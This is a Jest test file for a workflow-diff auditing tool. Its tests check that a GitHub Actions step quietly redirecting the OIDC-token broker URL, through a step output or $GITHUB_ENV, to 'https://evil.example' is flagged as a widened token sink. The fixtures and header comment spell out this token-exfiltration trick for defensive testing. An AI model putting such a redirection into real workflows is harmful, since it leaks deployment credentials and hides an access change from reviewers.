/**
 * Session 31 (w-rfaces): where stepwarden's steps send the job's OIDC token, written as an expression
 * that reads an earlier step's output. Session 28 compared a computed `broker-url` / `oidc-audience`
 * by what it reads in the files (strategy, `on:` inputs, the `env:`s, callers' `with:`, the needed
 * jobs), but not the job's own steps: `broker-url: ${{ steps.s.outputs.url }}` with step `s`'s script
 * changed from `url=https://broker.corp.example` to `url=https://evil.example` sent the token to the
 * author's host while the diff said "No access changes" (failed at 454b932); so did `broker-url: ${{
 * env.B }}` with an earlier step's `echo "B=…" >> "$GITHUB_ENV"` changed. Now a widened sink row;
 * a change of a step in a job whose `with:` reads no step output is none.
 */
import { describe, expect, it } from '@jest/globals';
import { diff } from './diff-trees.js';

const SW = 'stepwarden/stepwarden/actions/run@0123456789abcdef0123456789abcdef01234567';
/** Job `a`: step `s` prints `url`, then stepwarden's step sends the token where `brokerUrl` says. */
const sender = (url: string, brokerUrl = '${{ steps.s.outputs.url }}') =>
  `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    permissions: { contents: read, id-token: write }\n    steps:\n      - id: s\n        run: echo "url=${url}" >> "$GITHUB_OUTPUT"\n      - uses: ${SW}\n        with:\n          audience: https://deploy.example\n          run: make deploy\n          broker-url: ${brokerUrl}\n          oidc-audience: https://broker.corp.example\n`;
const sinkRows = (changes: Awaited<ReturnType<typeof diff>>) =>
  changes.filter((c) => c.job === 'a' && c.subject.startsWith('OIDC token')).map((c) => c.effect);

describe("diff: a broker-url read from a step's output is what that step writes (s31)", () => {
  it('the step now writes another host: a widened sink row', async () => {
    expect(
      sinkRows(await diff(sender('https://broker.corp.example'), sender('https://evil.example'))),
    ).toContain('widened');
  });

  it('an earlier step sets the variable it reads through $GITHUB_ENV: a widened sink row', async () => {
    const viaEnv = (url: string) =>
      sender(url, '${{ env.B }}')
        .replace('echo "url=', 'echo "B=')
        .replace('"$GITHUB_OUTPUT"', '"$GITHUB_ENV"');
    expect(
      sinkRows(await diff(viaEnv('https://broker.corp.example'), viaEnv('https://evil.example'))),
    ).toContain('widened');
  });

  it('negatives: the same files; a step changed beside a broker-url that reads no step output or env', async () => {
    const same = sender('https://broker.corp.example');
    expect(sinkRows(await diff(same, same))).toEqual([]);
    const fixed = (url: string) => sender(url, "${{ format('{0}', 'https://broker.corp.example') }}");
    expect(sinkRows(await diff(fixed('a'), fixed('b')))).toEqual([]);
  });
});
